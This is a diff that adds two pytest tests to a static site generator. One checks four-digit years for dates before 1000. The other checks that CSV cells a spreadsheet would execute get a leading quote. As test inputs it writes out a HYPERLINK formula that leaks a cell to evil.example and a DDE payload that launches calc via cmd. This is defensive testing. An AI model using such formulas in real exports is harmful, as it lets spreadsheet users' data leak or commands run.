@@ -6,6 +6,8 @@ import json
 import shutil
 from datetime import date, datetime, timezone
 from pathlib import Path
+from xml.etree import ElementTree
+from zoneinfo import ZoneInfo
 
 import icalendar
 import jsonschema
@@ -198,3 +200,63 @@ def test_data_page_explains_every_file_field_and_column(local):
     for page in (local / "index.html", local / "events/denial.html"):
         text = page.read_text(encoding="utf-8")
         assert text.count('data.html">') == 2  # nav and footer
+
+
+def test_dates_before_the_year_1000_keep_four_digit_years(tmp_path):
+    content = tmp_path / "content"
+    shutil.copytree(ROOT / "tests/fixtures/valid", content)
+    for name, old, new in (("events/shelling.md", "2023-05-22T", "0500-05-22T"),
+                           ("events/denial.md", "2023-05-23", "0500-05-23"),
+                           ("sources/art.md", "published: 2023-05-24\n", "")):
+        path = content / name
+        path.write_text(path.read_text().replace(old, new))
+    out = tmp_path / "site"
+    result = run_build("build", "--content", content, "--out", out, cwd=tmp_path)
+    assert result.returncode == 0, result.stderr
+    ics = (out / "data/events.ics").read_bytes().decode("utf-8")
+    for line in ("DTSTART:05000522T020000Z", "DTEND:05000522T070000Z", "DTSTAMP:05000522T070000Z",
+                 "DTSTART;VALUE=DATE:05000523"):
+        assert line + "\r\n" in ics
+    shelling = {str(v["SUMMARY"]): v for v in calendar(out).walk("VEVENT")}["Shelling"]
+    assert shelling.decoded("DTSTART") == datetime(500, 5, 22, 2, 0, tzinfo=timezone.utc)
+    # Midnight in Moscow, in the year 500 on local mean time (+02:30:17).
+    midnight = datetime(500, 5, 23, tzinfo=ZoneInfo("Europe/Moscow")).astimezone(timezone.utc)
+    assert midnight.isoformat() == "0500-05-22T21:29:43+00:00"
+    atom = "{http://www.w3.org/2005/Atom}"
+    feed = ElementTree.parse(out / "feed.xml").getroot()
+    assert feed.find(atom + "updated").text == "0500-05-22T21:29:43Z"
+    assert sorted(e.find(atom + "updated").text for e in feed.iter(atom + "entry")) == [
+        "0500-05-22T07:00:00Z", "0500-05-22T21:29:43Z"]
+    data = load(out, "events.json")
+    assert data["updated"] == "0500-05-22T21:29:43Z"
+    record = next(e for e in data["events"] if e["slug"] == "shelling")
+    assert (record["start"], record["updated"]) == ("0500-05-22T02:00Z", "0500-05-22T07:00:00Z")
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(tmp_path):
+    content = tmp_path / "content"
+    shutil.copytree(ROOT / "tests/fixtures/valid", content)
+    title = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
+    summary = "+cmd|' /C calc'!A0"
+    shelling = content / "events/shelling.md"
+    shelling.write_text(shelling.read_text()
+                        .replace("title: Shelling", f"title: '{title.replace(chr(39), chr(39) * 2)}'")
+                        .replace("time_note: early Monday", "time_note: '-1 hour, says @rvc'")
+                        .replace("status: reported", f"summary: \"{summary}\"\nstatus: reported"))
+    denial = content / "events/denial.md"
+    denial.write_text(denial.read_text().replace("title: Denial", "title: '@SUM(1+1)'"))
+    out = tmp_path / "site"
+    result = run_build("build", "--content", content, "--out", out, cwd=tmp_path)
+    assert result.returncode == 0, result.stderr
+    rows = {r["slug"]: r for r in csv.DictReader(
+        io.StringIO((out / "data/events.csv").read_text(encoding="utf-8"), newline=""))}
+    assert rows["shelling"]["title"] == "'" + title
+    assert rows["shelling"]["summary"] == "'" + summary
+    assert rows["shelling"]["time_note"] == "'-1 hour, says @rvc"
+    assert rows["denial"]["title"] == "'@SUM(1+1)"
+    # Only such cells: the rest, and the JSON file, keep the text as written.
+    assert rows["denial"]["summary"] == "Denied." and rows["shelling"]["citations"] == "2"
+    assert rows["shelling"]["start"] == "2023-05-22T05:00+03:00"
+    records = {e["slug"]: e for e in events(out)}
+    assert (records["shelling"]["title"], records["shelling"]["summary"]) == (title, summary)
+    assert "starts with an added <code>'</code>" in (out / "data.html").read_text(encoding="utf-8")
